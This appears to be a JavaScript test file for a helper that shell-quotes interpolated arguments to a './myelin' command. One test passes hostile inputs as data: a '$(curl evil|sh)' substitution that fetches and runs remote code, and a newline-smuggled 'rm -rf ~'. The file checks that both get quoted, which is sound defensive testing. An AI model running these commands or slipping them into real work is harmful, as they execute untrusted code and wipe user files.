import assert from 'node:assert/strict';
import { shell } from '../../main/console/kernel/shell.js';

export default {
  'should make one word of whatever came from an address': () => {
    assert.equal(shell`./myelin query ${'$(curl evil|sh)'} ${'x\nrm -rf ~'}`, "./myelin query '$(curl evil|sh)' 'x\nrm -rf ~'");
    assert.equal(shell`./myelin explain ${"it's"}`, "./myelin explain 'it'\\''s'");
  },
  'should leave plain words and lists of them as they are': () => assert.equal(shell`./myelin query ${'System'} ${['Account', '5Grw', '--at', 7]}`, './myelin query System Account 5Grw --at 7'),
  'should end where the last word ends': () => assert.equal(shell`./myelin query System Number ${[]}`, './myelin query System Number'),
};
